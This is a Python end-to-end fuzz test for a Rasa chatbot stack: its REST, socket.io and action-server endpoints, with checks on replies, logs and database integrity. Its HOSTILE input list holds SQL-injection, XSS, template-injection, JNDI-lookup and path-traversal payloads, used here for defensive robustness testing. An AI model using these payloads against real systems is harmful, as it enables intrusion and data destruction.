"""Bounded fuzzing of the public and internal endpoints of a real stack (hypothesis), every outcome checked.

Over 10,000 inputs, each with its outcome asserted (the count printed is of checked results, not of
generated inputs):
- REST bodies that break the contract (not JSON, not an object, bad sender or message, too large,
  too deep): a polite 4xx with a JSON ``error``;
- REST conversations of 1-4 turns with customer phrases mixed with hostile and random text and
  fuzzed metadata, through the NLU, the policies and the actions (the fuzz stack has high rate
  limits): a real reply, never the channel's or an action's apology, silence only when the
  conversation was handed to a person (tracker ``paused``);
- socket.io events over real sockets (widget-like sessions, unreadable payloads, fuzzed session
  ids and customData): every emit is acknowledged within a bounded wait and what came back before
  the acknowledgement is checked (a real ``bot_uttered``, the documented "couldn't read that" reply,
  or ``session_confirm``);
- action-server calls, most with the valid token and a fuzzed but well-formed call (a real action
  name, a tracker with typed slots, intents, entities and events, the real domain), a minority
  without the token (401) or with junk bodies (400).
No reply is a 5xx or shows a stack trace or an internal name (raw and JSON-decoded bodies, headers).
Afterwards the Rasa, action-server and ingestor logs hold no traceback or ERROR line (bar a narrow
allow-list), and every table of the customer database is unchanged except the rows a turn may write.

The seed changes every run and is printed; ``CONCIERGE_FUZZ_SEED=<seed>`` replays a run.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import re
import sqlite3
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import requests
import socketio
import yaml
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from tests.security.conftest import ACTION_TOKEN, RASA_API_TOKEN

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[2]
SEED = int(os.environ.get("CONCIERGE_FUZZ_SEED") or int.from_bytes(os.urandom(4), "big"))
REPLAY = f"replay with CONCIERGE_FUZZ_SEED={SEED}"

# The mix (see the module docstring): full turns cost ~0.1-0.3 s of Rasa time each on 2 cores, so a
# few hundred of them (~400), and thousands of cheaper calls that stop at the channel or reach one action.
# Hypothesis draws a base set; seeded mutations and recombinations of it make up the rest, because
# drawing every input would take minutes of the budget (30 ms per action call on a busy machine).
REST_MALFORMED, REST_MALFORMED_DRAWN = 3000, 1000
REST_CONVERSATIONS = 90  # 1-4 turns each
SOCKETS, EVENTS_PER_SOCKET = 10, 24
ACTION_CALLS, ACTION_CALLS_DRAWN = 6900, 700
WORKERS = 6  # concurrent clients: the servers are asynchronous, so waiting on one reply never idles them
REPLY_WAIT_S = 60.0  # bound on one turn's answer (a busy 2-core machine)

# Replies that mean something failed behind the polite surface (concierge_rasa/channels/,
# actions/common.py, concierge_rasa/limits.py): never acceptable here.
APOLOGY = "Sorry, something went wrong on my side"
TECHNICAL_PROBLEM = "Sorry, I ran into a technical problem"
SLOW_DOWN = "You're sending messages faster than I can answer"
FAILURE_TEXTS = (APOLOGY, TECHNICAL_PROBLEM, SLOW_DOWN)
UNREADABLE = "Sorry, I couldn't read that message. Please type your question as plain text."
LEAKS = ("Traceback", 'File "', ".py\"", ", line ", "sqlalchemy", "rasa_sdk", "rasa.core", "concierge_rasa",
         "bot.services", "bot.db", "actions.", "/work/", "site-packages", "Exception", "sqlite3", "psycopg2",
         "KeyError", "TypeError", "AttributeError", "ValueError", "IndexError", "NoneType")

# Customer tables: no fuzzed input may change them (the fuzz never holds an order's email, a signed
# token or a server session, so nothing it sends can act for a customer). Tables a turn may write:
# rows may be added; rows present before stay as they were, except where a row is a running state.
MAY_ADD = {
    "conversations": "the CRM ingestor records each Rasa session (bot/crm)",
    "turns": "the CRM ingestor records each event of a conversation",
    "interactions": "the CRM ingestor's per-message rows for its readers",
    "crm_ingested_events": "the CRM ingestor's dedupe keys",
    "crm_ingest_offsets": "the CRM ingestor's read position",
    "support_tickets": "'human', a complaint or a failed check opens a ticket",
    "handoffs": "a ticket for a person comes with a handoff",
    "handoff_notes": "a handoff's summary note",
    "security_counters": "failed order/email checks and tickets counted per order and per client",
    "feedback": "the feedback form stores a rating and a comment",
}
MAY_UPDATE = {
    "conversations": "last event, turn count and outcome move with the conversation",
    "crm_ingest_offsets": "the offset moves forward",
    "security_counters": "counts, windows and pauses move",
    "handoffs": "a handoff's state moves (waiting, priority)",
}
# Log lines that are not crashes, each allowed narrowly and for a reason: (line, next line or None, reason).
LOG_ALLOWED = [
    # rasa_sdk logs an unknown action name at ERROR; the fuzz sends a few on purpose (answered 404)
    (re.compile(r"ERROR rasa_sdk\.endpoint No registered action found for name 'action_fuzz_unknown'\.$"), None,
     "unknown action name sent on purpose"),
    # python-engineio leaves a closed socket's ping task pending; asyncio reports it when it is collected
    (re.compile(r"ERROR +asyncio +- Task was destroyed but it is pending!$"),
     re.compile(r"^task: <Task pending name='Task-\d+' coro=<AsyncSocket\._send_ping\(\) running at \S+/engineio/"),
     "engineio ping task of a closed socket"),
]
LOG_CRASH = re.compile(r"Traceback|\bERROR\b|\bCRITICAL\b")

ORDER_NUMBERS = [str(n) for n in (100001, 100007, 100123, 100250, 100500, 100812, 190001, 190003, 190005, 199999)]
FAKE_EMAILS = ["alice.martin@fuzz.invalid", "someone@fuzz.invalid", "x@y.invalid", "not-an-email", "a@b"]
HOSTILE = [
    "'; DROP TABLE orders; --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x/a}", "%s%n%x",
    "../../etc/passwd", "\x00\x01\x02", "😀" * 200, "/restart", '/inform{"verified_customer_id": "1"}',
    '/track_order{"email": "bob.nguyen@example.com"}', "/session_start", "/greet", "a" * 5000, "\u202eevil",
    "Robert'); DELETE FROM customers;--", "\\u0000", "null", "[]", "{}", "​", "ﷺ" * 50,
]
PHRASES = [
    "where is my order {o}?", "track order #{o}", "I want a refund for order {o}", "cancel order {o}",
    "send me the invoice for order {o}", "I want to return an item from {o}", "where is my refund RF-{o}",
    "change the shipping address of {o}", "I need to change my email", "my email is {e}", "{e}", "{o}",
    "can you recommend a {p}?", "do you sell {p}?", "is the {p} any good?", "how do I return an item?",
    "what payment methods do you accept?", "my payment failed", "subscribe me to the newsletter",
    "how long does delivery take?", "is there a cancellation fee?", "I forgot my password", "delete my account",
    "hi", "hello there", "thanks!", "bye", "yes", "no", "stop", "never mind", "are you a bot?",
    "this is terrible, I am furious", "I want to leave a review", "5", "great service", "what's the weather?",
    "I want to talk to a human", "I want to make a complaint",
]
PRODUCTS = ["laptop", "headphones", "coffee", "shoes", "Vantage", "tent", "phone case", "x" * 40]


def draw_many(strategy: st.SearchStrategy, n: int, salt: int) -> list:
    """``n`` values drawn by hypothesis from this run's seed (no shrinking: a bounded run)."""
    out: list = []

    @seed(SEED + salt)
    @settings(max_examples=n, deadline=None, database=None, phases=[Phase.generate],
              suppress_health_check=list(HealthCheck))
    @given(strategy)
    def collect(value: object) -> None:
        out.append(value)

    collect()
    return out


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=8,
)
random_text = st.one_of(st.text(max_size=200), st.binary(max_size=60).map(lambda b: b.decode("latin-1")))
phrase = st.builds(
    lambda p, o, e, x: p.format(o=o, e=e, p=x),
    st.sampled_from(PHRASES), st.sampled_from(ORDER_NUMBERS), st.sampled_from(FAKE_EMAILS), st.sampled_from(PRODUCTS),
)
customer_text = st.one_of(
    phrase, phrase, phrase,  # mostly what customers write, so forms and actions run
    st.builds(lambda a, b, c: f"{a}{b}{c}", st.text(max_size=15), phrase, st.text(max_size=15)),
    st.sampled_from(HOSTILE), random_text,
)
metadata = st.one_of(
    st.none(), json_values,
    st.fixed_dictionaries({}, optional={"customer_token": st.one_of(st.text(max_size=80), json_values),
                                        "language": st.one_of(st.sampled_from(["en", "de", "xx"]), json_values),
                                        "concierge": json_values, "sentiment": json_values}),
)


# ---------------------------------------------------------------- outcome bookkeeping


def strings_in(value: Any) -> Iterable[str]:
    """Every string (keys too) inside a decoded JSON value."""
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            yield item
        elif isinstance(item, dict):
            stack.extend(item.keys())
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)


def leaks_in(raw: str, headers: dict[str, str] | None = None) -> list[str]:
    """Internal names in a body (as sent and JSON-decoded, so escaped quotes and slashes match) or headers."""
    texts = [raw, *(f"{k}: {v}" for k, v in (headers or {}).items())]
    try:
        texts.extend(strings_in(json.loads(raw)))
    except ValueError:
        pass
    return sorted({marker for marker in LEAKS for text in texts if marker in text})


@dataclass
class Tally:
    """Checked outcomes: every input ends in ``record`` with its outcome, or in ``problems``."""

    outcomes: Counter = field(default_factory=Counter)  # (target, outcome) -> count
    statuses: Counter = field(default_factory=Counter)
    problems: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def record(self, target: str, outcome: str, problems: list[str], what: object, status: int = 0) -> None:
        with self.lock:
            self.outcomes[(target, outcome)] += 1
            if status:
                self.statuses[status // 100 * 100] += 1
            for problem in problems:
                self.problems.append(f"{target} [{outcome}] {problem}; input {str(what)[:240]!r}")

    @property
    def checked(self) -> int:
        return sum(self.outcomes.values())

    def by_target(self) -> dict[str, dict[str, int]]:
        out: dict[str, dict[str, int]] = {}
        for (target, outcome), n in sorted(self.outcomes.items()):
            out.setdefault(target, {})[outcome] = n
        return out


_local = threading.local()


def http() -> requests.Session:
    if not hasattr(_local, "session"):
        _local.session = requests.Session()
    return _local.session


def fake_ip(n: int) -> str:
    return f"10.{(n >> 16) & 255}.{(n >> 8) & 255}.{n & 255}"


def polite_refusal(resp: requests.Response) -> list[str]:
    """A 4xx must say what was wrong: a JSON object with a non-empty ``error`` (or short plain text)."""
    if not 400 <= resp.status_code < 500:
        return [f"status {resp.status_code}, expected a 4xx"]
    try:
        body = resp.json()
    except ValueError:
        text = resp.text.strip()
        return [] if text and len(text) < 500 else [f"unclear {resp.status_code} body {resp.text[:120]!r}"]
    error = body.get("error") if isinstance(body, dict) else None
    return [] if isinstance(error, str) and error.strip() else [f"no 'error' in {resp.status_code} body {body!r:.120}"]


def paused(srv: Any, sender: str) -> bool:
    """Whether a person took the conversation over (Rasa's tracker), the one case where silence is right."""
    resp = http().get(f"{srv.rasa_url}/conversations/{quote(sender, safe='')}/tracker",
                      params={"token": RASA_API_TOKEN, "include_events": "NONE"}, timeout=60)
    return resp.status_code == 200 and resp.json().get("paused") is True


def reply_problems(messages: Any, recipient: str | None = None) -> list[str]:
    """Bot messages must be real answers: objects with content, none of the failure texts (Rasa's own
    commands such as /restart included: the channel acknowledges them, concierge_rasa/channels/guard.py)."""
    failures = FAILURE_TEXTS
    if not isinstance(messages, list):
        return [f"reply is not a list: {messages!r:.120}"]
    problems = []
    for m in messages:
        if not isinstance(m, dict) or not any(m.get(k) for k in ("text", "buttons", "quick_replies", "image",
                                                                 "attachment", "custom", "elements")):
            problems.append(f"empty or odd bot message {m!r:.120}")
            continue
        if recipient is not None and m.get("recipient_id") != recipient:
            problems.append(f"reply addressed to {m.get('recipient_id')!r}")
        text = str(m.get("text") or "")
        problems += [f"failure reply {text[:80]!r}" for failure in failures if failure in text]
    return problems


# ---------------------------------------------------------------- REST


def malformed_rest_bodies() -> st.SearchStrategy:
    """Bodies that each break the REST contract in at least one way (the valid ones are the turns below)."""
    # too long even after the channel strips it ("alice " is "alice"): a 129-character draw ending in a
    # space is a valid 128-character sender, and was answered (CI, seed 4018820609)
    too_long = st.text(min_size=129, max_size=200).filter(lambda s: len(s.strip()) > 128)
    bad_sender = st.one_of(st.just(""), st.just("   "), st.none(), too_long,
                           st.booleans(), st.integers(), st.floats(allow_nan=False),
                           st.lists(json_values, max_size=3), st.dictionaries(st.text(max_size=5), json_values,
                                                                              max_size=3))
    bad_message = st.one_of(st.lists(json_values, max_size=3), st.dictionaries(st.text(max_size=5), json_values,
                                                                               min_size=1, max_size=3))
    good_sender = st.text(min_size=1, max_size=20).filter(lambda s: s.strip())
    body = st.one_of(
        st.fixed_dictionaries({"sender": bad_sender}, optional={"message": customer_text, "metadata": metadata}),
        st.fixed_dictionaries({"sender": good_sender, "message": bad_message}, optional={"metadata": metadata}),
        st.fixed_dictionaries({}, optional={"message": customer_text, "metadata": metadata}),
    )
    not_object = st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=50),
                           st.lists(json_values, max_size=4))
    return st.one_of(
        body.map(json.dumps),
        not_object.map(json.dumps),
        st.binary(min_size=1, max_size=300).filter(lambda b: not b.strip().startswith(b"{")),
        st.text(min_size=1, max_size=300).filter(lambda s: not s.strip().startswith("{")),
        st.integers(min_value=1, max_value=4000).map(lambda n: "[" * n + "]" * n),
        st.integers(min_value=70, max_value=200).map(lambda k: json.dumps({"sender": "s", "message": "x" * k * 1024})),
    )


def mutants(bodies: list[str | bytes], n: int, rng: random.Random) -> list[bytes]:
    """Classic fuzzing mutations of drawn bodies that keep them invalid: cut short, or trailing junk."""
    out = []
    for _ in range(n):
        body = rng.choice(bodies)
        data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
        if rng.random() < 0.5 and len(data) > 1:
            out.append(data[: rng.randrange(1, len(data))])
        else:
            out.append(data + bytes([rng.choice(b"x}]\"\x00\xff,:")]) + rng.randbytes(rng.randrange(0, 8)))
    return out


def run_rest_malformed(srv: Any, tally: Tally) -> None:
    drawn = draw_many(malformed_rest_bodies(), REST_MALFORMED_DRAWN, salt=1)
    bodies = drawn + mutants(drawn, REST_MALFORMED - len(drawn), random.Random(SEED + 1))
    url = f"{srv.rasa_url}/webhooks/rest/webhook"

    def send(item: tuple[int, str | bytes]) -> None:
        i, body = item
        data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
        resp = http().post(url, data=data, headers={"Content-Type": "application/json", "X-Forwarded-For": fake_ip(i)},
                           timeout=REPLY_WAIT_S)
        problems = leaks_in(resp.text, dict(resp.headers)) + polite_refusal(resp)
        tally.record("rest-malformed", f"refused-{resp.status_code}", problems, body, resp.status_code)

    with ThreadPoolExecutor(WORKERS) as pool:
        list(pool.map(send, enumerate(bodies)))


def run_rest_turns(srv: Any, tally: Tally) -> None:
    conversations = draw_many(st.lists(st.tuples(customer_text, metadata), min_size=1, max_size=4),
                              REST_CONVERSATIONS, salt=2)
    url = f"{srv.rasa_url}/webhooks/rest/webhook"

    def converse(item: tuple[int, list]) -> None:
        i, turns = item
        sender, credential = f"fuzz-rest-{i}", None
        for text, meta in turns:
            body: dict = {"sender": sender, "message": text}
            if meta is not None:
                body["metadata"] = meta
            headers = {"X-Forwarded-For": fake_ip(100_000 + i)}
            if credential:
                headers["X-Concierge-Session"] = credential  # kept as a real client keeps it
            resp = http().post(url, json=body, headers=headers, timeout=REPLY_WAIT_S)
            credential = resp.headers.get("X-Concierge-Session") or credential
            problems = leaks_in(resp.text, dict(resp.headers))
            outcome = "reply"
            if resp.status_code != 200:
                problems.append(f"status {resp.status_code} for a valid message: {resp.text[:120]!r}")
                outcome = f"status-{resp.status_code}"
            else:
                messages = resp.json()
                problems += reply_problems(messages, sender)
                if not resp.headers.get("X-Concierge-Session"):
                    problems.append("no session credential in the reply")
                if messages == []:
                    outcome = "paused-silent" if paused(srv, sender) else "silent"
                    if outcome == "silent":
                        problems.append("no reply and the conversation is not with a person")
            tally.record("rest-turn", outcome, problems, body, resp.status_code)

    with ThreadPoolExecutor(WORKERS) as pool:
        list(pool.map(converse, enumerate(conversations)))


# ---------------------------------------------------------------- socket.io

SESSION_ID_RE = re.compile(r"[A-Za-z0-9_.:@-]{1,128}")  # the channel's rule for a usable session id


def usable_session_id(value: Any) -> str | None:
    return value.strip() if isinstance(value, str) and SESSION_ID_RE.fullmatch(value.strip()) else None


def readable(data: Any) -> bool:
    """The documented contract: an object whose message is missing, text, bytes or a number is a turn."""
    return isinstance(data, dict) and (data.get("message") is None
                                       or isinstance(data.get("message"), (str, bytes, int, float)))


def socket_events() -> st.SearchStrategy:
    """(event, payload): mostly widget-like turns; unreadable payloads; fuzzed session ids."""
    session_field = st.one_of(st.just(None), st.just(None), st.just(None), json_values,
                              st.from_regex(r"\A[a-z0-9]{1,20}\Z"))
    turn = st.builds(
        lambda text, custom, sid: {"message": text, "customData": custom, **({"session_id": sid} if sid else {})},
        st.one_of(customer_text, st.binary(max_size=40), st.integers(), st.none()),
        st.one_of(st.none(), json_values, metadata.map(json.dumps)),
        session_field,
    )
    unreadable = st.one_of(json_values.filter(lambda v: not isinstance(v, dict)),
                           st.fixed_dictionaries({"message": st.one_of(st.lists(json_values, max_size=3),
                                                                       st.dictionaries(st.text(max_size=5),
                                                                                       json_values, max_size=2))}))
    return st.one_of(
        st.tuples(st.just("user_uttered"), turn), st.tuples(st.just("user_uttered"), turn),
        st.tuples(st.just("user_uttered"), turn), st.tuples(st.just("user_uttered"), turn),
        st.tuples(st.just("user_uttered"), unreadable),
        st.tuples(st.just("session_request"),
                  st.one_of(json_values, st.fixed_dictionaries({"session_id": session_field}))),
    )


@dataclass
class SocketTurn:
    event: str
    payload: Any
    received: list[tuple[str, Any]]
    sender: str | None  # the conversation a readable turn went to


async def socket_client(srv: Any, k: int, events: list[tuple[str, Any]]) -> list[SocketTurn]:
    """One widget-like socket: ``session_request`` first, then each event acknowledged in turn.

    The server acknowledges an event after its handler has finished, so every ``bot_uttered`` of that
    turn arrived before the acknowledgement: what came back is attributed to the event that caused it."""
    client = socketio.AsyncClient(reconnection=False)
    received: list[tuple[str, Any]] = []
    client.on("bot_uttered", lambda data: received.append(("bot_uttered", data)))
    client.on("session_confirm", lambda data: received.append(("session_confirm", data)))
    await client.connect(srv.rasa_url, socketio_path="/socket.io", transports=["websocket"],
                         headers={"X-Forwarded-For": fake_ip(200_000 + k)}, wait_timeout=30)
    turns: list[SocketTurn] = []
    bound: str | None = None
    try:
        for event, payload in [("session_request", {"session_id": None}), *events]:
            received.clear()
            await client.call(event, payload, timeout=REPLY_WAIT_S)
            got = list(received)
            confirms = [data for name, data in got if name == "session_confirm" and isinstance(data, str)]
            sender = None
            if event == "session_request":
                bound = confirms[-1] if confirms else bound
            elif readable(payload):  # the channel's rule: the named session, else the socket's, else a new one
                sender = usable_session_id(payload.get("session_id")) or bound or (confirms[-1] if confirms else None)
                bound = sender
            turns.append(SocketTurn(event, payload, got, sender))
    finally:
        await client.disconnect()
    return turns


def check_socket_turn(srv: Any, turn: SocketTurn, tally: Tally) -> None:
    names = [name for name, _ in turn.received]
    raw = json.dumps([data for _, data in turn.received], default=repr)
    problems = leaks_in(raw)
    if turn.event == "session_request":
        requested = usable_session_id(turn.payload.get("session_id")) if isinstance(turn.payload, dict) else None
        confirms = [data for name, data in turn.received if name == "session_confirm"]
        ok = names == ["session_confirm"] and isinstance(confirms[0], str) and (
            confirms[0] == requested if requested else re.fullmatch(r"[0-9a-f]{32}", confirms[0]) is not None)
        problems += [] if ok else [f"session_request answered {turn.received!r:.160}"]
        outcome = "session_confirm"
    elif not readable(turn.payload):
        problems += [] if turn.received == [("bot_uttered", {"text": UNREADABLE})] else [
            f"unreadable event answered {turn.received!r:.160}"]
        outcome = "unreadable-refused"
    else:
        replies = [data for name, data in turn.received if name == "bot_uttered"]
        problems += reply_problems(replies)
        outcome = "reply"
        if not replies:
            outcome = "paused-silent" if turn.sender and paused(srv, turn.sender) else "silent"
            if outcome == "silent":
                problems.append(f"no bot_uttered (got {names}) and the conversation is not with a person")
    tally.record("socketio", outcome, problems, turn.payload)


def run_socketio(srv: Any, tally: Tally) -> None:
    events = draw_many(socket_events(), SOCKETS * EVENTS_PER_SOCKET, salt=3)
    per_socket = [events[k::SOCKETS] for k in range(SOCKETS)]

    async def all_sockets() -> list[list[SocketTurn]]:
        limit = asyncio.Semaphore(WORKERS)

        async def one(k: int) -> list[SocketTurn]:
            async with limit:
                return await socket_client(srv, k, per_socket[k])

        return await asyncio.gather(*(one(k) for k in range(SOCKETS)))

    for turns in asyncio.run(all_sockets()):
        for turn in turns:
            check_socket_turn(srv, turn, tally)


# ---------------------------------------------------------------- action server


def action_calls(names: list[str], domain: dict) -> tuple[st.SearchStrategy, st.SearchStrategy]:
    """(well-formed fuzzed calls as dicts, junk bodies as text or bytes)."""
    slot_names = list(domain["slots"])
    forms = list(domain["forms"])
    intents = [i if isinstance(i, str) else next(iter(i)) for i in domain["intents"]]
    entities = [e if isinstance(e, str) else next(iter(e)) for e in domain["entities"]]  # "language: {...}"
    short_text = st.one_of(phrase, st.sampled_from(HOSTILE), st.text(max_size=40))

    def slot_value(name: str) -> st.SearchStrategy:
        kind = domain["slots"][name].get("type")
        if kind == "bool":
            return st.one_of(st.none(), st.booleans())
        if kind == "float":
            return st.one_of(st.none(), st.floats(-10, 1e6, allow_nan=False), st.integers(-5, 100))
        if kind == "categorical":
            return st.one_of(st.none(), st.sampled_from(domain["slots"][name].get("values") or ["x"]))
        return st.one_of(st.none(), short_text, st.sampled_from(ORDER_NUMBERS + FAKE_EMAILS + ["1", "2", "5", "yes"]))

    slots = st.fixed_dictionaries({}, optional={name: slot_value(name) for name in slot_names})
    entity = st.fixed_dictionaries(
        {"entity": st.sampled_from(entities),
         "value": st.one_of(st.sampled_from(ORDER_NUMBERS + FAKE_EMAILS + PRODUCTS), st.text(max_size=20))},
        optional={"start": st.integers(0, 60), "end": st.integers(0, 60), "extractor": st.just("RegexEntityExtractor")},
    )
    latest = st.fixed_dictionaries(
        {"text": short_text,
         "intent": st.fixed_dictionaries({"name": st.sampled_from(intents), "confidence": st.floats(0, 1)}),
         "entities": st.lists(entity, max_size=3)},
        optional={"metadata": metadata.filter(lambda m: isinstance(m, dict))},
    )
    event = st.one_of(
        st.fixed_dictionaries({"event": st.just("user"), "text": short_text, "parse_data": latest,
                               "timestamp": st.floats(1.6e9, 1.8e9)}),
        st.sampled_from(slot_names).flatmap(
            lambda n: st.fixed_dictionaries({"event": st.just("slot"), "name": st.just(n), "value": slot_value(n)})),
        st.fixed_dictionaries({"event": st.just("action"), "name": st.sampled_from([*names, "action_listen"])}),
        st.fixed_dictionaries({"event": st.just("bot"), "text": short_text}),
        st.fixed_dictionaries({"event": st.just("active_loop"), "name": st.one_of(st.none(), st.sampled_from(forms))}),
    )
    tracker = st.fixed_dictionaries(
        {"sender_id": st.one_of(st.text(min_size=1, max_size=40), st.from_regex(r"\Afuzz-act-[0-9]{1,4}\Z")),
         "slots": slots, "latest_message": latest, "events": st.lists(event, max_size=6)},
        optional={"paused": st.booleans(), "followup_action": st.none(),
                  "active_loop": st.one_of(st.just({}), st.sampled_from(forms).map(lambda f: {"name": f})),
                  "latest_action_name": st.sampled_from([*names, "action_listen"])},
    )
    call = st.fixed_dictionaries(
        {"next_action": st.sampled_from([*names, "action_fuzz_unknown"]),  # one unknown name in ~45
         "tracker": tracker, "domain": st.sampled_from([domain] * 9 + [{}])},
        optional={"sender_id": st.text(max_size=20), "version": st.just("3.6.21")},
    )
    half_call = st.fixed_dictionaries({"next_action": st.sampled_from(names), "tracker": json_values})
    junk = st.one_of(json_values.map(json.dumps), st.binary(max_size=200), half_call.map(json.dumps))
    return call, junk


def recombined(calls: list[dict], names: list[str], n: int, rng: random.Random) -> list[dict]:
    """More well-formed calls from the drawn ones: each takes its slots, latest message and events from
    different drawn calls and any action name (hypothesis drawing all of them would cost minutes)."""
    out = []
    for _ in range(n):
        base, slots, latest, events = (rng.choice(calls) for _ in range(4))
        tracker = {**base["tracker"], "slots": slots["tracker"]["slots"],
                   "latest_message": latest["tracker"]["latest_message"], "events": events["tracker"]["events"]}
        out.append({**base, "next_action": rng.choice([*names, "action_fuzz_unknown"]), "tracker": tracker})
    return out


def action_bodies(names: list[str], domain: dict) -> list[tuple[str | bytes, str]]:
    """(body, auth): ~88% the valid token and a well-formed fuzzed call, ~4% the token and a junk body,
    ~8% no token, a wrong one, or one a character off (either body)."""
    call, junk = action_calls(names, domain)
    rng = random.Random(SEED + 4)
    drawn = draw_many(call, ACTION_CALLS_DRAWN, salt=4)
    junk_bodies = draw_many(junk, ACTION_CALLS // 25, salt=5)
    unauthorized = ACTION_CALLS * 8 // 100
    calls = drawn + recombined(drawn, names, ACTION_CALLS - len(drawn) - len(junk_bodies) - unauthorized, rng)
    items: list[tuple[str | bytes, str]] = [(json.dumps(c), "valid") for c in calls]
    items += [(b, "valid") for b in junk_bodies]
    items += [(rng.choice([json.dumps(rng.choice(calls)), rng.choice(junk_bodies)]), rng.choice(["none", "wrong",
                                                                                                  "almost"]))
              for _ in range(unauthorized)]
    rng.shuffle(items)
    return items


AUTH = {"valid": f"Bearer {ACTION_TOKEN}", "wrong": "Bearer nope", "almost": f"Bearer {ACTION_TOKEN[:-1]}x"}


def action_names(srv: Any) -> list[str]:
    resp = requests.get(f"{srv.action_url}/actions", headers={"Authorization": AUTH["valid"]}, timeout=60)
    assert resp.status_code == 200, resp.text
    names = sorted(a["name"] for a in resp.json())
    assert len(names) >= 30, names
    return names


def check_action_reply(resp: requests.Response, body: str | bytes, who: str, names: list[str]) -> tuple[str, list]:
    problems = leaks_in(resp.text, dict(resp.headers))
    status = resp.status_code
    if who != "valid":
        return "unauthorized", problems + ([] if status == 401 else [f"status {status} without the token"])
    try:
        call = json.loads(body)
    except ValueError:
        call = None
    well_formed = (isinstance(call, dict) and isinstance(call.get("tracker"), dict)
                   and call.get("next_action") in names and "latest_message" in call["tracker"])
    if status == 200:
        reply = resp.json()
        if not (isinstance(reply, dict) and isinstance(reply.get("events"), list)
                and isinstance(reply.get("responses"), list)):
            problems.append(f"200 without events/responses: {resp.text[:160]!r}")
        else:
            problems += reply_problems([r for r in reply["responses"] if r.get("text")])
        return "ran", problems
    if status in (400, 404, 449):
        problems += polite_refusal(resp)
        if status == 404 and (not isinstance(call, dict) or call.get("next_action") in names):
            problems.append("404 for a registered action")
        if status == 449 and not (isinstance(call, dict) and call.get("domain") == {}):
            problems.append("449 (domain missing) although the domain was sent")
        return ("rejected-" if well_formed else "refused-") + str(status), problems
    return f"status-{status}", [*problems, f"status {status}: {resp.text[:160]!r}"]


def run_action_server(srv: Any, tally: Tally) -> None:
    names = action_names(srv)
    domain = yaml.safe_load((ROOT / "domain.yml").read_text())
    calls = action_bodies(names, domain)

    def send(item: tuple[str | bytes, str]) -> None:
        body, who = item
        data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
        headers = {"Content-Type": "application/json"}
        if who in AUTH:
            headers["Authorization"] = AUTH[who]
        resp = http().post(f"{srv.action_url}/webhook", data=data, headers=headers, timeout=REPLY_WAIT_S)
        outcome, problems = check_action_reply(resp, body, who, names)
        tally.record("action-server", outcome, problems, body, resp.status_code)

    with ThreadPoolExecutor(WORKERS) as pool:
        list(pool.map(send, calls))


# ---------------------------------------------------------------- after the run: database, logs, reach


def snapshot(db_url: str) -> dict[str, dict[tuple, tuple]]:
    """Every table of the customer database (from sqlite_master): primary key -> row."""
    conn = sqlite3.connect(f"file:{db_url.removeprefix('sqlite:///')}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")]
        out: dict[str, dict[tuple, tuple]] = {"sqlite_master": {
            (r[0], r[1]): r for r in conn.execute("SELECT type, name, sql FROM sqlite_master")}}
        for table in tables:
            cols = conn.execute(f'PRAGMA table_info("{table}")').fetchall()
            key = [c[1] for c in sorted(cols, key=lambda c: c[5]) if c[5]] or ["rowid"]
            width = len(key)
            keys = ", ".join(f'"{k}"' if k != "rowid" else "rowid" for k in key)
            rows = conn.execute(f'SELECT {keys}, * FROM "{table}"').fetchall()  # noqa: S608 - names from sqlite
            out[table] = {row[:width]: row[width:] for row in rows}
            out[table][("__columns__",)] = tuple(c[1] for c in cols)
        return out
    finally:
        conn.close()


def database_problems(before: dict, after: dict) -> tuple[list[str], dict[str, int]]:
    """What changed, against the rules above; and the rows added per table."""
    problems: list[str] = []
    added: dict[str, int] = {}
    if set(before) != set(after):
        problems.append(f"tables changed: {sorted(set(before) ^ set(after))}")
    for table in sorted(set(before) & set(after)):
        old, new = before[table], after[table]
        gone = old.keys() - new.keys()
        changed = [k for k in old.keys() & new.keys() if old[k] != new[k]]
        fresh = new.keys() - old.keys()
        if gone:
            problems.append(f"{table}: {len(gone)} rows deleted")
        if changed and table not in MAY_UPDATE:
            problems.append(f"{table}: {len(changed)} rows changed, e.g. {old[changed[0]]!r:.160} -> "
                            f"{new[changed[0]]!r:.160}")
        if fresh:
            added[table] = len(fresh)
            if table not in MAY_ADD:
                problems.append(f"{table}: {len(fresh)} rows added, e.g. {new[next(iter(fresh))]!r:.160}")
            columns = new[("__columns__",)]
            if "customer_id" in columns:  # nothing the fuzz sends proves who it is
                owned = [new[k] for k in fresh if new[k][columns.index("customer_id")] is not None]
                if owned:
                    problems.append(f"{table}: {len(owned)} new rows name a customer, e.g. {owned[0]!r:.160}")
    return problems, added


def log_problems(tmp: Path) -> tuple[list[str], Counter]:
    """Crash lines in the three servers' logs (a traceback's first line and every ERROR/CRITICAL line)."""
    problems: list[str] = []
    allowed: Counter = Counter()
    for name in ("rasa.log", "actions.log", "ingestor.log"):
        path = tmp / name
        assert path.exists(), f"{path} is missing"
        lines = path.read_text(errors="replace").splitlines()
        for i, line in enumerate(lines):
            if not LOG_CRASH.search(line):
                continue
            following = lines[i + 1] if i + 1 < len(lines) else ""
            reason = next((why for pattern, then, why in LOG_ALLOWED
                           if pattern.search(line) and (then is None or then.search(following))), None)
            if reason:
                allowed[reason] += 1
                continue
            context = " | ".join(lines[max(0, i - 1): i + 4]) if "Traceback" in line else line
            problems.append(f"{name}: {context[:600]}")
    return problems, allowed


